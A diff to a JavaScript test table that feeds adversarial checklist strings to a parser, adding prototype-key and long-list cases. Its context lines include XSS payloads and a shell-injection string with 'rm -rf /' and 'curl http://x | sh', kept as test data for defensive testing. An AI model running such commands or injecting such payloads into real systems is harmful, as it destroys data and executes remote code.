@@ -83,6 +83,14 @@ describe('whatever a file holds', () => {
     ['a million asterisks', '*'.repeat(1_000_000)],
     ['many ands', `- [ ] ${Array.from({ length: 300 }, () => 'Container builds').join(' and ')}`],
     ['many commas', `- [ ] ${'Image, '.repeat(3000)}`],
+    [
+      'a list of many variables',
+      `- [ ] The body does NOT contain any of: ${Array.from({ length: 30 }, (_, n) => `\`KEY_NUMBER_${n}\``).join(', ')}.`,
+    ],
+    [
+      'words that every object of JavaScript has',
+      '- [ ] constructor toString __proto__ valueOf\n- [ ] Base image is constructor:1\n- [ ] hasOwnProperty=200MB',
+    ],
     ['HTML', '- [ ] <script>alert(1)</script> Container builds <img src=x onerror=alert(1)>'],
     ['shell', '- [ ] Container builds; $(rm -rf /) `; rm -rf /` && curl http://x | sh'],
   ])(
